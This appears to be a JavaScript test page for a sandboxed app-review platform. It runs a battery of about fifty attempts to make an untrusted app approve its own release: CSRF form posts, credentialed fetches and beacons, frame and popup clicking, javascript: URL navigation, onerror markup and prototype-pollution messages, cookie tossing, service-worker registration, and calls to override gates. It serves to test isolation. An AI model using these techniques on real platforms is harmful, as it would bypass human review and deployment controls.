// Each entry tries to approve this very app, or to reach what could. None may change anything.
(function () {
  "use strict";
  var told, panel, form, text, json, attempts, tried = [];

  function fields() {
    return {
      deployment: String(told.deployment), version: String(told.deployment), outcome: "accepted", name: "Rita Reviewer",
      text: "", code: "", seen: "0", steps: "[]"
    };
  }
  function body(make) {
    var data = make(), all = fields();
    Object.keys(all).forEach(function (name) { data.append(name, all[name]); });
    return data;
  }
  function post(more) {
    return fetch(panel + "/verdict", Object.assign({ method: "POST", credentials: "include", body: form }, more));
  }
  function frame(url, name) {
    var one = document.createElement("iframe");
    one.name = name || "";
    one.src = url;
    document.body.appendChild(one);
    return new Promise(function (done) { one.onload = function () { done(one); }; setTimeout(done, 1500, one); });
  }
  // In a frame of our own, so that this page stays.
  function inFrame(work) {
    return frame("blank.html").then(function (one) { return work(one.contentWindow, one.contentDocument); });
  }
  function send(target, kind, url, method) {
    return inFrame(function (window_, document_) {
      var one = document_.createElement("form"), all = fields();
      one.action = url || panel + "/verdict";
      one.method = method || "post";
      one.target = target;
      one.enctype = kind;
      Object.keys(all).forEach(function (name) {
        var field = document_.createElement("input");
        field.name = name;
        field.value = all[name];
        one.appendChild(field);
      });
      document_.body.appendChild(one);
      one.submit();
    });
  }
  function load(tag, name, url) {
    return new Promise(function (done) {
      var one = document.createElement(tag);
      one.onload = one.onerror = done;
      one[name] = url;
      if (tag === "link") one.rel = "prefetch";
      document.body.appendChild(one);
      setTimeout(done, 1000);
    });
  }
  function click(where) {
    [].forEach.call(where.document.querySelectorAll("button, input[type=submit]"), function (one) { one.click(); });
  }
  function popup(url, work) {
    var one = window.open(url, "_blank");
    return new Promise(function (done) {
      setTimeout(function () { try { work(one); } finally { one.close(); done(); } }, 1500);
    });
  }
  function say(message) { window.parent.postMessage(message, "*"); }
  function approve(control) { return control + "/apps/" + told.app + "/promote/" + told.deployment; }

  function list() {
    var control = told.control, api = control + "/api/v1/apps/" + told.app;
    return {
      "fetch a form": function () { return post(); },
      "fetch without cors": function () { return post({ mode: "no-cors" }); },
      "fetch as json": function () { return post({ headers: { "Content-Type": "application/json" }, body: json }); },
      "fetch json as text": function () { return post({ mode: "no-cors", body: json }); },
      "fetch parts": function () { return post({ mode: "no-cors", body: body(function () { return new FormData(); }) }); },
      "fetch that outlives the page": function () { return post({ mode: "no-cors", keepalive: true }); },
      "fetch without a referrer": function () { return post({ mode: "no-cors", referrerPolicy: "no-referrer" }); },
      "fetch with put": function () { return post({ method: "PUT" }); },
      "fetch that hides its method": function () { return fetch(panel + "/verdict?_method=POST&" + form, { mode: "no-cors" }); },
      "fetch that names another origin": function () { return post({ headers: { Origin: control, "X-Forwarded-Host": "x" } }); },
      "a request": function () {
        return new Promise(function (done) {
          var one = new XMLHttpRequest();
          one.open("POST", panel + "/verdict");
          one.withCredentials = true;
          one.onloadend = done;
          one.send(form);
        });
      },
      "a beacon": function () { return navigator.sendBeacon(panel + "/verdict", form); },
      "a beacon of text": function () { return navigator.sendBeacon(panel + "/verdict", text); },
      "a form in place": function () { return send("_self", "application/x-www-form-urlencoded"); },
      "a form above": function () { return send("_top", "application/x-www-form-urlencoded"); },
      "a form in the parent": function () { return send("_parent", "application/x-www-form-urlencoded"); },
      "a form in a tab": function () { return send("_blank", "application/x-www-form-urlencoded"); },
      "a form as text": function () { return send("_self", "text/plain"); },
      "a form in parts": function () { return send("_blank", "multipart/form-data"); },
      "a form that gets": function () { return send("_self", "", "", "get"); },
      "an origin of nobody": function () {
        var one = document.createElement("iframe");
        one.sandbox = "allow-scripts allow-forms";
        one.srcdoc = "<form method=post action='" + panel + "/verdict'>" + Object.keys(fields()).map(function (name) {
          return "<input name='" + name + "' value='" + fields()[name] + "'>";
        }).join("") + "</form><script>document.forms[0].submit()<\/script>";
        document.body.appendChild(one);
      },
      "an image": function () { return load("img", "src", panel + "/verdict?" + form); },
      "a script": function () { return load("script", "src", panel + "/verdict?" + form); },
      "a prefetch": function () { return load("link", "href", panel + "/verdict?" + form); },
      "an object": function () { return load("object", "data", panel + "/verdict?" + form); },
      "an address": function () { return inFrame(function (own) { own.location = panel + "/verdict?" + form; }); },
      "a stream": function () { return new EventSource(panel + "/live", { withCredentials: true }); },
      "the panel in a frame": function () { return frame(panel).then(function (one) { click(one.contentWindow); }); },
      "the panel in an object": function () { return load("object", "data", panel); },
      "the panel in a tab": function () { return popup(panel, click); },
      "the panel in a tab, by script": function () {
        return popup(panel, function (one) { one.location = "javascript:document.forms[0].submit()"; });
      },
      "the panel in a tab, by message": function () {
        return popup(panel, function (one) { one.postMessage({ sandbox: "hello", deployment: told.deployment }, "*"); });
      },
      "a word to the panel": function () { say({ sandbox: "verdict", outcome: "accepted", id: 1 }); },
      "a verdict as a greeting": function () { say(Object.assign({ sandbox: "hello", sessions: true }, fields())); },
      "markup in a place": function () {
        var bad = "<img src=x onerror=\"document.forms[0].submit()\">";
        for (var n = 0; n < 20; n++) {
          say({ sandbox: "place", id: n, url: bad, width: bad, height: 1e308, scroll_x: -1, scroll_y: {}, inputs: { [bad]: bad } });
        }
      },
      "a prototype in a place": function () {
        say(JSON.parse('{"sandbox": "place", "id": 1, "inputs": {"__proto__": {"outcome": "accepted"}, "constructor": 1}}'));
      },
      "a storm of words": function () { for (var n = 0; n < 5000; n++) say({ sandbox: "state", state: "lost" }); },
      "a huge word": function () { say({ sandbox: "restored", id: 1, left: [new Array(5e6).join("x")] }); },
      "the parent's page": function () { click(window.parent); },
      "the parent's memory": function () { window.parent.localStorage.clear(); },
      "the parent's address": function () { return window.parent.location.href; },
      "the parent led away": function () { window.top.location = location.origin + "/blank.html"; },
      "the parent's script": function () { window.top.location = "javascript:document.forms[0].submit()"; },
      "cookies for all": function () {
        ["localhost", ".localhost", "apps.localhost", "sandbox.localhost"].forEach(function (domain) {
          document.cookie = "__Host-sandbox=x; domain=" + domain + "; path=/";
          document.cookie = "__Host-sandbox=x; secure; path=/";
          document.cookie = "sandbox_review=x; domain=" + domain + "; path=/";
        });
      },
      "a worker for all pages": function () { return navigator.serviceWorker.register("attack.js", { scope: "/" }); },
      "a worker for the panel": function () { return navigator.serviceWorker.register(panel + "/verdict", { scope: panel }); },
      "a socket": function () { return new WebSocket(control.replace(/^http/, "ws") + "/r/live"); },
      "the interface": function () {
        return fetch(api + "/releases", {
          method: "POST", mode: "no-cors", credentials: "include",
          body: JSON.stringify({ deployment: told.deployment, seen: 0, override: true, reason: "x" })
        });
      },
      "the release page": function () {
        return send("_blank", "application/x-www-form-urlencoded", approve(control));
      },
      "the release page, unseen": function () {
        return fetch(approve(control), { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ seen: "0", how: "all", override: "true", reason: "x" }) });
      },
      "the gates": function () {
        return fetch(control + "/apps/" + told.app + "/gates", { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ reviews: "0", reason: "x" }) });
      },
      "a new link": function () {
        return fetch(control + "/apps/" + told.app + "/reviews/new", { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ name: "X", email: "x@example.org", branch: "main" }) });
      }
    };
  }

  // They would lead our own page away, if nothing is above it.
  var NEEDS_PARENT = ["a form above", "a form in the parent", "the parent led away", "the parent's script", "the parent's page"];

  function run(names) {
    if (!names.length) return document.documentElement.setAttribute("data-tried", JSON.stringify(tried));
    var name = names.shift(), over = new Promise(function (done) { setTimeout(done, 3000); });
    var attempt = new Promise(function (done) { done(attempts[name]()); }).catch(function () {});
    Promise.race([attempt, over]).then(function () { tried.push(name); run(names); });
  }

  window.addEventListener("load", function () {
    var isFramed = window.parent !== window;
    told = JSON.parse(document.getElementById("known").textContent);
    // Not where the platform itself looks whether the app works.
    if (!told.panel || !(isFramed || location.hash === "#attack")) return;
    panel = told.panel;
    form = body(function () { return new URLSearchParams(); });
    json = JSON.stringify(fields());
    text = new Blob([json], { type: "text/plain" });
    attempts = list();
    run(Object.keys(attempts).filter(function (name) { return isFramed || NEEDS_PARENT.indexOf(name) < 0; }));
  });
})();
